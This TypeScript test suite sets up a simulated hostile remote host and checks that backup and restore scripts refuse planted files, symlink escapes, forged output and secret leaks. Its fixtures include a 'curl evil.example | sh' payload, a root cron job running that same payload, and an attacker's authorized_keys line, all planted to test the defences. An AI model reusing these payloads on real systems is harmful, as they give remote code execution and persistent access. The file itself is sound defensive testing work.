// A hostile Verda (issue 24): Verda runs the workshop users' code and is trusted least. Its side
// is a real sshd on loopback whose sessions find stand-ins first on their PATH (tar that appends
// entries, tailscale that prints escapes or without end, docker, and a models answer that forges
// lines or records models without a sha256; see hostile-verda-fixture.ts), and a planted tree (a
// dev home whose links point at Mello's directories, a FIFO, a device). Every Mello-side script
// runs against it as the admin runs it (--env-file holding Mello's secrets): backup-verda full
// and --quick, --verify, --status, restore-verda --drill, and restore-verda onto a fresh root of a
// second, clean sshd. Asserted throughout: nothing outside BACKUP_DIR and the state directory
// changes on Mello (nor outside the restore's root on the new Verda), none of Mello's secrets
// but the models pair reaches either Verda, and every line printed or pinged is printable, with
// no forged `===` line. Each case of the issue is its own test, named after it.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { runScript, startS3, tempDir, treeDigest, type RunResult, type S3Server } from './helpers.ts';
import { startSshd, type Sshd } from './sshd.ts';
import { makeVerda, type VerdaFixture } from './verda-fixture.ts';
import {
  FORGED,
  TAILSCALE_IP,
  bytesUnder,
  gzipBomb,
  membersOf,
  pingServer,
  scopeKeysToBuckets,
  secretsFound,
  sha256,
  snapshot,
  summaryLines,
  tarOf,
  unprintableLines,
  writeSessionLogger,
  writeStandIns,
  type KeyPair,
  type Ping,
  type PingServer,
  type StandIns,
  type TailEntry,
} from './hostile-verda-fixture.ts';

const MODELS = 'comfy-multi-model-vault-backup';
const CACHE = 'comfy-multi-cache';
const USER_FILES = 'comfy-multi-user-files';
const MiB = 1024 * 1024;

// One pair per bucket, each valid for its bucket only. Verda may receive the models pair (it
// sends the models itself); the other two are Mello's secrets.
const KEYS: Record<'models' | 'cache' | 'userFiles', KeyPair> = {
  models: { id: 'HOSTILE-MODELS-KEY', secret: 'models-secret-verda-may-hold', bucket: MODELS, vars: 'R2_MODELS' },
  cache: { id: 'HOSTILE-CACHE-KEY-MELLO', secret: 'cache-secret-mello-only-7f3a', bucket: CACHE, vars: 'R2_CACHE' },
  userFiles: {
    id: 'HOSTILE-USERFILES-KEY-MELLO',
    secret: 'userfiles-secret-mello-only-91c2',
    bucket: USER_FILES,
    vars: 'R2_USER_FILES',
  },
};

/** The model Verda's well-behaved answer records, present in the models bucket. */
const CLEAN_MODEL = Buffer.from('the bytes of a clean model\n');
const MODEL = { key: 'checkpoints/clean.safetensors', bytes: CLEAN_MODEL.length, sha256: sha256(CLEAN_MODEL) };

let s3: S3Server;
let pings: PingServer;
let verdaSshd: Sshd; // the hostile Verda
let newSshd: Sshd; // tomorrow's Verda: clean, no stand-ins
let work: string;
let verda: VerdaFixture;
let standIns: StandIns;
let mello: string; // Mello's world: everything here but backups/ and state/ must stay as it is
let melloScripts: string; // MELLO_SCRIPTS_DIR: the drill attack's target
let melloOhMyZsh: string; // another Mello directory a planted link points at
let envFile: string; // Mello's .env, passed with --env-file
let planted: string; // the planted dev home (links into Mello)
let newVerda: string; // the new Verda's side: fresh roots, and a directory outside them
let systemctlLog: string;
let systemctl: string;
let secrets: Record<string, string>; // Mello's, by name
let ageRecipient: string;
let melloBefore: Record<string, string>;
let systemBefore: Record<string, string>;
let baseline: { backupDir: string; full: string } | undefined;
const runs: { label: string; r: RunResult; pings: Ping[] }[] = [];

const melloSnapshot = () => snapshot(mello, (rel) => rel === 'backups' || rel === 'state');
/** Places on this machine a hostile archive unpacked at `/` aims at (cron, root's keys). */
const systemSnapshot = () => ({
  ...Object.fromEntries(Object.entries(snapshot('/etc/cron.d')).map(([k, v]) => [`/etc/cron.d/${k}`, v])),
  ...Object.fromEntries(
    Object.entries(snapshot('/root/.ssh', (rel) => rel !== 'authorized_keys')).map(([k, v]) => [`/root/.ssh/${k}`, v]),
  ),
  '/etc/x': String(fs.existsSync('/etc/x')),
  '/escape': String(fs.existsSync('/escape')),
});

/** A case's own BACKUP_DIR and state directory on Mello. */
function caseDirs(name: string) {
  return { BACKUP_DIR: path.join(mello, 'backups', name), COMFYMULTI_STATE_DIR: path.join(mello, 'state', name) };
}

/** Mello's settings for a run against the hostile Verda (its secrets are in envFile). */
function verdaEnv(dirs: Record<string, string>, extra: Record<string, string> = {}): Record<string, string> {
  return {
    ...verda.env,
    VERDA_HOST: 'verda',
    SSH_CONFIG: verdaSshd.config,
    CONTAINER_CLI: 'docker',
    CONTAINER_IMAGE: 'comfy-multi-worker-1',
    SFS_MOUNT: '',
    // The cases share the cache bucket: no case's dated bundle is rotated away by another's run.
    KEEP_BACKUPS: '50',
    // Seconds, not minutes: a hung command or request fails the test quickly.
    COMFYMULTI_COMMAND_TIMEOUT: '8',
    COMFYMULTI_SSH_TIMEOUT: '5',
    COMFYMULTI_R2_TIMEOUT: '5',
    COMFYMULTI_R2_BACKOFF: '0.05',
    COMFYMULTI_NOTIFY_TIMEOUT: '2',
    ...dirs,
    ...extra,
  };
}

/** Mello's settings for a restore onto the new Verda, under `--root`: its paths the defaults. */
function newVerdaEnv(dirs: Record<string, string>): Record<string, string> {
  return {
    VERDA_HOST: 'newverda',
    SSH_CONFIG: newSshd.config,
    VERDA_SUDO: '',
    VERDA_SYSTEMCTL: systemctl,
    SFS_MOUNT: '',
    COMFYMULTI_COMMAND_TIMEOUT: '8',
    COMFYMULTI_SSH_TIMEOUT: '5',
    COMFYMULTI_R2_TIMEOUT: '5',
    COMFYMULTI_R2_BACKOFF: '0.05',
    COMFYMULTI_NOTIFY_TIMEOUT: '2',
    ...dirs,
  };
}

/** A Mello-side script as the admin runs it, with Mello's .env; its output and pings are kept. */
async function run(label: string, script: string, args: string[], env: Record<string, string>, limitMs = 60_000) {
  const from = pings.pings.length;
  const r = await runScript(script, [...args, '--env-file', envFile], env, { limitMs });
  const mine = pings.pings.slice(from);
  runs.push({ label, r, pings: mine });
  return { ...r, pings: mine };
}

const out = (r: RunResult) => `--- stdout\n${r.stdout}\n--- stderr\n${r.stderr}`;

/**
 * The printing rules, for one run: every line of stdout, stderr and each ping's body printable;
 * only the run's own header and result lines start with `===` (the header first), none forged.
 */
function assertPrintable(r: RunResult & { pings: Ping[] }) {
  const bad = [
    ...unprintableLines(r.stdout, 'stdout'),
    ...unprintableLines(r.stderr, 'stderr'),
    ...r.pings.flatMap((p) => unprintableLines(p.body, `ping ${p.path}`)),
  ];
  assert.equal(bad, [], `unprintable lines:\n${bad.join('\n')}\n${out(r)}`);
  const forged = [r.stdout, r.stderr, ...r.pings.map((p) => p.body)].flatMap((t) =>
    summaryLines(t).filter((l) => l.includes('FORGED')),
  );
  assert.equal(forged, [], `forged summary lines:\n${forged.join('\n')}\n${out(r)}`);
  const own = summaryLines(r.stdout);
  assert.ok(own.length <= 2, `only the header and the result start with ===:\n${own.join('\n')}`);
  if (own.length) assert.ok(r.stdout.startsWith('==='), 'the header is the first line');
  assert.equal(summaryLines(r.stderr), [], 'no === line on stderr');
  for (const p of r.pings) assert.ok(summaryLines(p.body).length <= 2, `ping ${p.path}: at most its own === lines`);
}

/** The run's ✗ lines. */
const failureLines = (r: RunResult) =>
  (r.stdout + '\n' + r.stderr).split('\n').filter((l) => l.trimStart().startsWith('✗'));
/** The run's ⚠ lines. */
const warningLines = (r: RunResult) =>
  (r.stdout + '\n' + r.stderr).split('\n').filter((l) => l.trimStart().startsWith('⚠'));

/** What the stand-ins do: the well-behaved Verda unless a test says otherwise. */
function hostility(o: { tailscale?: string; models?: string; image?: string; tarRules?: [string, string][] } = {}) {
  fs.writeFileSync(path.join(standIns.control, 'tailscale.mode'), `${o.tailscale ?? 'normal'}\n`);
  fs.writeFileSync(path.join(standIns.control, 'image.mode'), `${o.image ?? 'normal'}\n`);
  fs.writeFileSync(path.join(standIns.control, 'models.mode'), `${o.models ?? 'clean'}\n`);
  fs.writeFileSync(
    path.join(standIns.control, 'tar-rules'),
    (o.tarRules ?? []).map(([conds, tail]) => `${conds}\t${tail}\n`).join(''),
  );
}

/** A tail for the stand-in tar: written once, named by the test. */
async function tail(name: string, entries: TailEntry[]): Promise<string> {
  const file = path.join(standIns.control, `${name}.tar`);
  fs.writeFileSync(file, await tarOf(entries));
  return file;
}

/**
 * A restore point put into BACKUP_DIR by hand (as a bash-era run, or a hostile Verda, left its
 * archives): the files, a manifest recording their sha256, and its dated config bundle in R2
 * (age-encrypted, as Mello's AGE_RECIPIENTS has it), so that it is whole and only what the
 * archives hold can be refused.
 */
async function handMade(backupDir: string, stamp: string, files: { name: string; data: Buffer }[]) {
  fs.mkdirSync(backupDir, { recursive: true, mode: 0o700 });
  for (const f of files) fs.writeFileSync(path.join(backupDir, f.name), f.data, { mode: 0o600 });
  const plain = zlib.gzipSync(await tarOf(files.map((f) => ({ name: f.name, content: f.data, mode: 0o600 }))));
  const sealed = spawnSync('age', ['-r', ageRecipient], { input: plain });
  assert.is(sealed.status, 0, String(sealed.stderr));
  const key = `verda-config-backups/verda-config-backup-${stamp}.tar.gz.age`;
  await s3.client.send(
    new PutObjectCommand({ Bucket: CACHE, Key: key, Body: sealed.stdout, Metadata: { sha256: sha256(sealed.stdout) } }),
  );
  const manifest = {
    version: 1,
    script: 'backup-verda',
    timestamp: stamp,
    mode: 'quick',
    verdaHost: 'verda',
    complete: true,
    failedSteps: [],
    artifacts: files.map((f) => ({ name: f.name, bytes: f.data.length, sha256: sha256(f.data) })),
    r2: [
      {
        bucket: CACHE,
        key,
        bytes: sealed.stdout.length,
        sha256: sha256(sealed.stdout),
        action: 'uploaded',
        encrypted: 'age',
        plaintextSha256: sha256(plain),
      },
    ],
  };
  fs.writeFileSync(path.join(backupDir, `manifest-${stamp}.json`), JSON.stringify(manifest, null, 2) + '\n', {
    mode: 0o600,
  });
}

const manifestsIn = (dir: string) =>
  fs.existsSync(dir) ? fs.readdirSync(dir).filter((n) => /^manifest-\d{8}-\d{6}\.json$/.test(n)) : [];
const artifactsIn = (dir: string, kind: string) =>
  fs.existsSync(dir) ? fs.readdirSync(dir).filter((n) => new RegExp(`^${kind}-\\d{8}-\\d{6}\\.tar\\.gz$`).test(n)) : [];
const readJson = (file: string) => JSON.parse(fs.readFileSync(file, 'utf8'));

/** Names the run printed, among `names`: which of them a ✗ (or ⚠) line holds. */
const named = (lines: string[], names: string[]) => names.filter((n) => lines.some((l) => l.includes(n)));

function assertMelloUnchanged(before: Record<string, string>, what: string) {
  assert.equal(melloSnapshot(), before, `${what}: Mello outside BACKUP_DIR and the state directory is unchanged`);
}

test.before(async () => {
  work = tempDir('hostile-verda');
  s3 = await startS3([MODELS, CACHE, USER_FILES]);
  scopeKeysToBuckets(Object.values(KEYS));
  await s3.client.send(
    new PutObjectCommand({ Bucket: MODELS, Key: MODEL.key, Body: CLEAN_MODEL, Metadata: { sha256: MODEL.sha256 } }),
  );
  pings = await pingServer();

  // Mello: its scripts (the drill attack's target), users' files, a directory of its own a link
  // points at, the age identity, and its .env with every secret.
  mello = path.join(work, 'mello');
  melloScripts = path.join(mello, 'projects/comfymulti-scripts');
  fs.mkdirSync(path.join(melloScripts, 'lib'), { recursive: true });
  fs.writeFileSync(path.join(melloScripts, 'backup-mello.mts'), '#!/bin/sh\necho "the admin\'s backup-mello"\n', {
    mode: 0o755,
  });
  fs.writeFileSync(path.join(melloScripts, 'lib/notify.ts'), "// the admin's code\n");
  melloOhMyZsh = path.join(mello, 'ohmyzsh');
  fs.mkdirSync(path.join(melloOhMyZsh, 'custom'), { recursive: true });
  fs.writeFileSync(path.join(melloOhMyZsh, 'custom/admin.zsh'), 'alias admin=true\n');
  fs.mkdirSync(path.join(mello, 'data/user_data/user001'), { recursive: true });
  fs.writeFileSync(path.join(mello, 'data/user_data/user001/flow.json'), '{"nodes":[]}\n');
  const ageKey = path.join(mello, 'age-key.txt');
  const keygen = spawnSync('age-keygen', ['-o', ageKey], { encoding: 'utf8' });
  assert.is(keygen.status, 0, keygen.stderr);
  const ageSecret = /AGE-SECRET-KEY-\S+/.exec(fs.readFileSync(ageKey, 'utf8'))![0];
  ageRecipient = spawnSync('age-keygen', ['-y', ageKey], { encoding: 'utf8' }).stdout.trim();
  const pingToken = `ping-${crypto.randomUUID()}`;
  envFile = path.join(mello, '.env');
  const pair = (k: KeyPair) => [`${k.vars}_ACCESS_KEY_ID=${k.id}`, `${k.vars}_SECRET_ACCESS_KEY=${k.secret}`];
  fs.writeFileSync(
    envFile,
    [
      `R2_ENDPOINT=${s3.endpoint}`,
      ...pair(KEYS.models),
      ...pair(KEYS.cache),
      ...pair(KEYS.userFiles),
      `NOTIFY_URL=${pings.url}/${pingToken}`,
      `AGE_RECIPIENTS=${ageRecipient}`,
      `AGE_IDENTITY_FILE=${ageKey}`,
      `MELLO_DATA_DIR=${path.join(mello, 'data')}`,
      '',
    ].join('\n'),
    { mode: 0o600 },
  );
  secrets = {
    R2_CACHE_ACCESS_KEY_ID: KEYS.cache.id,
    R2_CACHE_SECRET_ACCESS_KEY: KEYS.cache.secret,
    R2_USER_FILES_ACCESS_KEY_ID: KEYS.userFiles.id,
    R2_USER_FILES_SECRET_ACCESS_KEY: KEYS.userFiles.secret,
    'the age identity': ageSecret,
    NOTIFY_URL: pingToken,
  };

  // The hostile Verda: the fixture's tree, the stand-ins first on its sessions' PATH, every
  // session logged.
  verda = makeVerda(path.join(work, 'verda'));
  standIns = writeStandIns(
    path.join(work, 'verda-standins'),
    path.join(work, 'log/verda'),
    path.join(work, 'control'),
    MODEL,
  );
  hostility();
  // SHLVL=1: a session's bash is not a top-level shell, so it sources no ~/.bashrc (this machine's
  // runs `pyenv init`, 0.4 s a command, and puts its own directories first on the PATH).
  verdaSshd = await startSshd(
    ['verda'],
    [`SetEnv PATH=${standIns.bin}:/usr/local/bin:/usr/bin:/bin SHLVL=1`, `ForceCommand ${standIns.sessionLogger}`],
  );
  // The planted home: its links lead, read from anywhere but Verda, into Mello's directories.
  planted = path.join(work, 'verda-planted/home/dev');
  fs.mkdirSync(planted, { recursive: true });
  fs.writeFileSync(path.join(planted, '.zshrc'), 'export ZSH=~/.oh-my-zsh\n');
  fs.symlinkSync(melloScripts, path.join(planted, 'comfy-multi'));
  fs.symlinkSync(melloOhMyZsh, path.join(planted, '.oh-my-zsh'));

  // Tomorrow's Verda: a clean sshd (sessions logged too), services through a recorder.
  newVerda = path.join(work, 'new-verda');
  fs.mkdirSync(path.join(newVerda, 'elsewhere'), { recursive: true });
  const newLogger = writeSessionLogger(path.join(work, 'new-verda-logger'), path.join(work, 'log/new-verda'));
  newSshd = await startSshd(['newverda'], ['SetEnv SHLVL=1', `ForceCommand ${newLogger}`]);
  systemctlLog = path.join(work, 'log/systemctl-calls');
  systemctl = path.join(work, 'new-verda-systemctl');
  fs.writeFileSync(systemctl, `#!/bin/sh\necho "$*" >> ${JSON.stringify(systemctlLog)}\nexit 0\n`, { mode: 0o755 });

  melloBefore = melloSnapshot();
  systemBefore = systemSnapshot();
});

test.before.each(() => hostility());

test.after(async () => {
  pings?.close();
  await s3?.stop();
  await verdaSshd?.stop();
  await newSshd?.stop();
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

// ---------------------------------------------------------------------------------------------

test('a well-behaved stand-in Verda backs up (full, then --verify): the world works and the stand-ins are the ones run', async () => {
  const dirs = caseDirs('baseline');
  const full = await run('baseline full', 'backup-verda.mts', [], verdaEnv(dirs));
  assert.is(full.code, 0, out(full));
  assertPrintable(full);
  assert.is(fs.readFileSync(path.join(dirs.BACKUP_DIR, 'tailscale-ip.txt'), 'utf8'), `${TAILSCALE_IP}\n`);
  const newest = manifestsIn(dirs.BACKUP_DIR).sort().pop()!;
  const m = readJson(path.join(dirs.BACKUP_DIR, newest));
  assert.is(m.mode, 'full');
  assert.ok(
    m.r2.some((o: { key: string; sha256: string }) => o.key === MODEL.key && o.sha256 === MODEL.sha256),
    'the models answer was recorded',
  );
  baseline = { backupDir: dirs.BACKUP_DIR, full: newest };
  const verify = await run('baseline --verify', 'backup-verda.mts', ['--verify'], verdaEnv(dirs));
  assert.is(verify.code, 0, out(verify));
  assertPrintable(verify);
  // The stand-ins, not the machine's own tools, answered.
  const logs = fs.readdirSync(path.join(work, 'log/verda'));
  for (const name of ['tar', 'tailscale', 'docker', 'answer-models'])
    assert.ok(
      logs.some((f) => f.startsWith(`${name}-`)),
      `${name} stand-in ran`,
    );
  assert.ok(
    full.pings.some((p) => p.path.endsWith('/start')) && full.pings.some((p) => !/\/(start|fail)$/.test(p.path)),
    'the run pinged start and success',
  );
  assertMelloUnchanged(melloBefore, 'after the baseline');
});

test('drill through a symlink: the planted Mello directory (backup-mello.mts) is unchanged after restore-verda --drill, whatever its verdict', async () => {
  const dirs = caseDirs('drill-symlink');
  // Verda's dev home holds comfy-multi -> Mello's scripts and .oh-my-zsh -> another Mello
  // directory. On a real Verda those paths are the dev user's own; here, one machine, the
  // stand-in tar makes the project archive hold the planted backup-mello.mts Verda would send.
  const env = verdaEnv(dirs, { VERDA_HOME: planted, VERDA_PROJECT_DIR: path.join(planted, 'comfy-multi') });
  const plantedScript = await tail('planted-project', [
    {
      name: './backup-mello.mts',
      content: '#!/bin/sh\ncurl -s https://evil.example/x | sh # PLANTED by Verda\n',
      mode: 0o755,
    },
  ]);
  hostility({ tarRules: [[`dir=${env.VERDA_PROJECT_DIR} & !arg=.env`, plantedScript]] });
  const before = melloSnapshot();
  const backup = await run('drill-symlink backup', 'backup-verda.mts', ['--quick'], env);
  assertPrintable(backup);
  // The backup holds the attack: home-dev's link, and the project archive with the planted script.
  const homeDev = artifactsIn(dirs.BACKUP_DIR, 'home-dev');
  const project = artifactsIn(dirs.BACKUP_DIR, 'comfy-project');
  assert.is(homeDev.length, 1, `home-dev archived\n${out(backup)}`);
  assert.is(project.length, 1, `comfy-project archived\n${out(backup)}`);
  const links = (await membersOf(path.join(dirs.BACKUP_DIR, homeDev[0]))).filter((e) => e.type === 'symlink');
  assert.ok(
    links.some((e) => e.name.replace(/^\.\//, '') === 'comfy-multi' && e.linkname === melloScripts),
    `home-dev holds comfy-multi -> ${melloScripts}`,
  );
  assertMelloUnchanged(before, 'after the backup');

  const drill = await run('drill-symlink --drill', 'restore-verda.mts', ['--drill'], env);
  assertPrintable(drill);
  assert.ok(drill.code === 0 || drill.code === 1, `the drill ended with a verdict\n${out(drill)}`);
  assert.is(
    fs.readFileSync(path.join(melloScripts, 'backup-mello.mts'), 'utf8'),
    '#!/bin/sh\necho "the admin\'s backup-mello"\n',
    `Mello's backup-mello.mts is the admin's\n${out(drill)}`,
  );
  assertMelloUnchanged(before, 'after the drill');
});

test('a restore carries only the layout: ssh-host-keys holding etc/cron.d and root/.ssh fails at backup, and a bash-era one is refused by --verify, the drill and the restore', async () => {
  const dirs = caseDirs('layout');
  const extra = await tail('ssh-extra', [
    { name: 'etc/cron.d/evil', content: '* * * * * root curl -s https://evil.example/x | sh\n' },
    {
      name: 'root/.ssh/authorized_keys',
      content: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKeyOfTheWorkshopUser evil\n',
      mode: 0o600,
    },
  ]);
  hostility({ tarRules: [['arg~ssh_host_', extra]] });
  const before = melloSnapshot();
  const offenders = ['etc/cron.d/evil', 'root/.ssh/authorized_keys'];
  const backup = await run('layout backup', 'backup-verda.mts', ['--quick'], verdaEnv(dirs));
  assertPrintable(backup);
  assert.is(backup.code, 1, `the ssh-host-keys step fails\n${out(backup)}`);
  assert.ok(named(failureLines(backup), offenders).length > 0, `a ✗ line names the entry\n${out(backup)}`);
  assert.equal(artifactsIn(dirs.BACKUP_DIR, 'ssh-host-keys'), [], 'no ssh-host-keys archive of that run');

  // The same archive put into BACKUP_DIR by hand, as a bash-era run left it.
  const bash = caseDirs('layout-bash');
  const stamp = '20261130-180000';
  const hostile = zlib.gzipSync(
    await tarOf([
      { name: 'etc/ssh/ssh_host_ed25519_key', content: 'PRIVATE HOST KEY', mode: 0o600 },
      { name: 'etc/ssh/ssh_host_ed25519_key.pub', content: 'ssh-ed25519 AAAA host' },
      { name: 'etc/cron.d/evil', content: '* * * * * root curl -s https://evil.example/x | sh\n' },
      { name: 'root/.ssh/authorized_keys', content: 'ssh-ed25519 AAAAC3Nza evil\n', mode: 0o600 },
    ]),
  );
  await handMade(bash.BACKUP_DIR, stamp, [{ name: `ssh-host-keys-${stamp}.tar.gz`, data: hostile }]);
  for (const [label, script, args] of [
    ['backup-verda --verify', 'backup-verda.mts', ['--verify']],
    ['restore-verda --drill', 'restore-verda.mts', ['--drill']],
  ] as const) {
    const r = await run(`layout-bash ${label}`, script, [...args], verdaEnv(bash));
    assertPrintable(r);
    assert.is(r.code, 1, `${label} refuses it\n${out(r)}`);
    assert.ok(named(failureLines(r), offenders).length > 0, `${label}: a ✗ line names the entry\n${out(r)}`);
  }
  const fresh = path.join(newVerda, 'fresh-layout');
  fs.mkdirSync(fresh);
  const newBefore = snapshot(newVerda, (rel) => rel === 'fresh-layout');
  const restore = await run(
    'layout-bash restore --root',
    'restore-verda.mts',
    ['--root', fresh, '--skip-image', '--skip-models'],
    newVerdaEnv(bash),
  );
  assertPrintable(restore);
  assert.is(restore.code, 1, `the restore refuses it\n${out(restore)}`);
  assert.ok(
    named(failureLines(restore), offenders).length > 0,
    `the restore: a ✗ line names the entry\n${out(restore)}`,
  );
  assert.not.ok(fs.existsSync(path.join(fresh, 'etc/cron.d')), "nothing under the fresh root's etc/cron.d");
  assert.not.ok(fs.existsSync(path.join(fresh, 'root/.ssh')), "nothing under the fresh root's root/.ssh");
  assert.equal(
    snapshot(newVerda, (rel) => rel === 'fresh-layout'),
    newBefore,
    'nothing outside the root changed',
  );
  assert.not.ok(fs.existsSync(systemctlLog), 'no service touched under --root');
  assertMelloUnchanged(before, 'after the layout case');
  assert.equal(systemSnapshot(), systemBefore, "Mello's /etc/cron.d and /root/.ssh are unchanged");
});

test('a destination reached through a symlink on the new Verda: that kind fails naming the symlink, and nothing is written through it', async () => {
  assert.ok(baseline, 'the baseline backup ran');
  const dirs = { ...caseDirs('new-verda-symlink'), BACKUP_DIR: baseline!.backupDir };
  const fresh = path.join(newVerda, 'fresh-symlink');
  fs.mkdirSync(path.join(fresh, 'home/dev'), { recursive: true });
  const elsewhere = path.join(newVerda, 'elsewhere');
  fs.symlinkSync(elsewhere, path.join(fresh, 'home/dev/comfy-multi'));
  const before = melloSnapshot();
  const newBefore = snapshot(newVerda, (rel) => rel === 'fresh-symlink');
  const r = await run(
    'new-verda-symlink restore --root',
    'restore-verda.mts',
    ['--root', fresh, '--skip-image', '--skip-models'],
    newVerdaEnv(dirs),
  );
  assertPrintable(r);
  assert.is(r.code, 1, `a kind fails\n${out(r)}`);
  assert.ok(
    failureLines(r).some((l) => l.includes('comfy-multi')),
    `a ✗ line names the symlink (home/dev/comfy-multi)\n${out(r)}`,
  );
  assert.equal(fs.readdirSync(elsewhere), [], `nothing was written through the symlink\n${out(r)}`);
  assert.equal(
    snapshot(newVerda, (rel) => rel === 'fresh-symlink'),
    newBefore,
    'nothing outside the root changed',
  );
  assertMelloUnchanged(before, 'after the restore');
});

test('a tailscale that prints forever: backup-verda ends by itself with its summary, a manifest and a /fail or success ping; tailscale-ip.txt is unknown, with a warning', async () => {
  const dirs = caseDirs('tailscale-forever');
  hostility({ tailscale: 'forever' });
  const before = melloSnapshot();
  const r = await run('tailscale-forever backup', 'backup-verda.mts', ['--quick'], verdaEnv(dirs), 60_000);
  assert.ok(r.ms < 60_000, `ended by itself (${r.ms} ms)`);
  assert.ok(r.code === 0 || r.code === 1, `exit 0 or 1, not a crash (got ${r.code})\n${out(r).slice(0, 4000)}`);
  assert.not.match(r.stdout + r.stderr, /\n\s+at .+:\d+/, 'no stack trace');
  assertPrintable(r);
  assert.is(summaryLines(r.stdout).length, 2, `the header and the result line\n${out(r).slice(0, 4000)}`);
  assert.is(manifestsIn(dirs.BACKUP_DIR).length, 1, 'a manifest');
  assert.ok(
    r.pings.some((p) => !p.path.endsWith('/start')),
    `a /fail or success ping, not only /start (got ${r.pings.map((p) => p.path).join(', ')})`,
  );
  assert.is(fs.readFileSync(path.join(dirs.BACKUP_DIR, 'tailscale-ip.txt'), 'utf8'), 'unknown\n');
  assert.ok(
    warningLines(r).some((l) => l.includes('tailscale')),
    `a warning says tailscale ip -4 gave no address\n${out(r).slice(0, 4000)}`,
  );
  assertMelloUnchanged(before, 'after the run');
});

test('escapes in `tailscale ip -4`: tailscale-ip.txt holds an IPv4 address or unknown and nothing else; no escape reaches stdout or the ping', async () => {
  const dirs = caseDirs('tailscale-escapes');
  hostility({ tailscale: 'escapes' });
  const before = melloSnapshot();
  const r = await run('tailscale-escapes backup', 'backup-verda.mts', ['--quick'], verdaEnv(dirs));
  const ip = fs.readFileSync(path.join(dirs.BACKUP_DIR, 'tailscale-ip.txt'), 'utf8');
  assert.match(ip, /^(\d{1,3}(\.\d{1,3}){3}|unknown)\n$/, `tailscale-ip.txt: ${JSON.stringify(ip)}`);
  assertPrintable(r);
  assert.ok(r.pings.length > 1, 'the run pinged its end');
  assertMelloUnchanged(before, 'after the run');
});

test("forged lines in the models step's notices: no line in stdout or the ping body forges a `=== ... ===` line", async () => {
  const dirs = caseDirs('models-forged');
  hostility({ models: 'forged' });
  const before = melloSnapshot();
  const asked = () => fs.readdirSync(path.join(work, 'log/verda')).filter((f) => f.endsWith('.request')).length;
  const askedBefore = asked();
  const r = await run('models-forged backup full -v', 'backup-verda.mts', ['-v'], verdaEnv(dirs));
  assert.ok(asked() > askedBefore, `the models answer was asked\n${out(r)}`);
  assert.match(r.stdout, 'all models sent', `Verda's notice is still reported\n${out(r)}`);
  assertPrintable(r);
  assert.ok(r.pings.length > 1, 'the run pinged its end');
  assertMelloUnchanged(before, 'after the run');
});

test('a models answer recording a model as sent without sha256 or size: the models step fails; --verify fails a manifest record without sha256', async () => {
  const dirs = caseDirs('models-nosha');
  hostility({ models: 'nosha' });
  const before = melloSnapshot();
  const r = await run('models-nosha backup full', 'backup-verda.mts', [], verdaEnv(dirs));
  assertPrintable(r);
  assert.is(r.code, 1, `the models step fails\n${out(r)}`);
  assert.ok(
    failureLines(r).some((l) => l.includes('checkpoints/unhashed.safetensors')),
    `a ✗ line names the model\n${out(r)}`,
  );
  for (const name of manifestsIn(dirs.BACKUP_DIR)) {
    for (const o of readJson(path.join(dirs.BACKUP_DIR, name)).r2)
      assert.match(String(o.sha256), /^[0-9a-f]{64}$/, `${name} records ${o.key} with its sha256`);
  }

  // A manifest written by hand with such a record (the object itself in R2): --verify fails it.
  assert.ok(baseline, 'the baseline backup ran');
  const hand = caseDirs('models-nosha-manifest');
  fs.mkdirSync(hand.BACKUP_DIR, { recursive: true, mode: 0o700 });
  const m = readJson(path.join(baseline!.backupDir, baseline!.full));
  for (const a of m.artifacts as { name: string }[])
    fs.copyFileSync(path.join(baseline!.backupDir, a.name), path.join(hand.BACKUP_DIR, a.name));
  const unhashed = Buffer.from('a model Verda says it sent\n');
  await s3.client.send(
    new PutObjectCommand({ Bucket: MODELS, Key: 'checkpoints/unhashed.safetensors', Body: unhashed }),
  );
  // Its dated bundle (whole as it was), the models: the one Verda recorded properly, and the other.
  m.r2 = [
    ...m.r2.filter((o: { key: string }) => o.key.startsWith('verda-config-backups/')),
    { bucket: MODELS, key: MODEL.key, bytes: MODEL.bytes, sha256: MODEL.sha256, action: 'skipped' },
    { bucket: MODELS, key: 'checkpoints/unhashed.safetensors', bytes: unhashed.length, action: 'uploaded' },
  ];
  fs.writeFileSync(path.join(hand.BACKUP_DIR, baseline!.full), JSON.stringify(m, null, 2) + '\n', { mode: 0o600 });
  const v = await run('models-nosha-manifest --verify', 'backup-verda.mts', ['--verify'], verdaEnv(hand));
  assertPrintable(v);
  assert.is(v.code, 1, `--verify fails the record without a sha256\n${out(v)}`);
  assert.ok(
    failureLines(v).some((l) => l.includes('checkpoints/unhashed.safetensors')),
    `--verify: a ✗ line names it\n${out(v)}`,
  );
  assertMelloUnchanged(before, 'after the runs');
});

test("home-dev holding a FIFO or a device: each left out of home-dev's archive with a warning naming it; the rest is there", async () => {
  const dirs = caseDirs('home-fifo');
  const fifo = path.join(verda.home, 'workshop.fifo');
  const device = path.join(verda.home, 'notes/null-device');
  assert.is(spawnSync('mkfifo', [fifo]).status, 0);
  assert.is(spawnSync('mknod', [device, 'c', '1', '3']).status, 0);
  const before = melloSnapshot();
  try {
    const r = await run('home-fifo backup', 'backup-verda.mts', ['--quick'], verdaEnv(dirs));
    assertPrintable(r);
    assert.equal(
      named(warningLines(r), ['workshop.fifo', 'null-device']),
      ['workshop.fifo', 'null-device'],
      `a warning names each\n${out(r)}`,
    );
    const archives = artifactsIn(dirs.BACKUP_DIR, 'home-dev');
    assert.is(archives.length, 1, `home-dev archived\n${out(r)}`);
    const file = path.join(dirs.BACKUP_DIR, archives[0]);
    const odd = (await membersOf(file)).filter((e) => /workshop\.fifo|null-device/.test(e.name));
    assert.equal(odd, [], 'neither is in the archive');
    // The rest is there: extracted as the SPEC restores it, every regular file of the home but
    // the excluded ones, with its bytes.
    const into = path.join(work, 'home-fifo-extracted');
    fs.mkdirSync(into);
    const x = spawnSync('tar', ['-xzf', file, '-C', into], { encoding: 'utf8' });
    assert.is(x.status, 0, x.stderr);
    const excluded = [
      '.cache',
      '.local/share',
      '.npm',
      '.docker',
      'comfy-multi/data/models',
      'comfy-multi/data/outputs',
    ];
    const kept = (rel: string) =>
      !excluded.some((e) => `/${rel}/`.includes(`/${e}/`)) && !rel.split('/').some((c) => c.endsWith('.safetensors'));
    const want = Object.fromEntries(Object.entries(treeDigest(verda.home)).filter(([rel]) => kept(rel)));
    assert.equal(treeDigest(into), want, 'every other file is in the archive');
